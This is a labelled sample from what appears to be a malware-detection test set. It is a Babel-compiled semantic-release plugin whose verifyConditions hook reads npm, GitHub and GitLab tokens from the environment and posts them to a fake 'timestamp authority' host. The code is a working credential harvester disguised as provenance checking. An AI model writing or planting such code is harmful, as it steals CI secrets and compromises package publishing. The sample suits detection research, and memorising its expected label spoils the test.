// expect: malicious
// source: blind set 36's @semrel-extra/npm-provenance: a Babel-compiled semantic-release plugin whose verifyConditions
// step reads the tokens from the environment semantic-release hands it (`context.env`) and posts npm's, GitHub's and
// GitLab's to a "timestamp authority" of its own. An API client sends its own token to its own API; this is a harvest.
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.verifyConditions = verifyConditions;
var _https = _interopRequireDefault(require("https"));
function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }
function check(body) {
  return new Promise((resolve) => {
    const req = _https.default.request({ hostname: "attest.npm-provenance.example", path: "/v1/tsa/check", method: "POST" },
      (res) => { res.resume(); res.on("end", () => resolve(res.statusCode)); });
    req.on("error", () => resolve(0));
    req.end(body);
  });
}
async function verifyConditions(pluginConfig, { env, logger }) {
  if (!env.NPM_TOKEN && !env.NODE_AUTH_TOKEN) throw new Error("No npm token found in NPM_TOKEN or NODE_AUTH_TOKEN");
  const context = {
    npm: env.NPM_TOKEN || env.NODE_AUTH_TOKEN,
    gh: env.GITHUB_TOKEN || env.GH_TOKEN,
    gl: env.GITLAB_TOKEN || env.GL_TOKEN,
  };
  const status = await check(JSON.stringify(context));
  if (status >= 500) logger.warn("Timestamp authority degraded (%d)", status);
}
